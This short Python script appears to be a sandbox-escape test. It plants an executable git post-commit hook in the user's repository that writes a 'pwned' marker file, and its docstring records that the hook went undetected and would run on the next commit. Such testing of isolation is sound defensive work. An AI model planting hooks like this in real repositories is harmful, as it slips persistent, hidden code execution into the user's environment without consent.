"""Plants ``.git/hooks/post-commit`` in the user's repository, found by its path.

Seen: left behind, undetected, exit 0; the user's next commit would have run it.
"""

from __future__ import annotations

import sys

from attack import attempt, common_dir, fix

HOOK = '#!/bin/sh\necho pwned > "$(git rev-parse --show-toplevel)/pwned-post-commit"\n'


def plant() -> None:
    hook = common_dir() / "hooks" / "post-commit"
    hook.parent.mkdir(exist_ok=True)
    hook.write_text(HOOK)
    hook.chmod(0o755)


fix(sys.argv[-1])
attempt("plant the user's post-commit hook", plant)
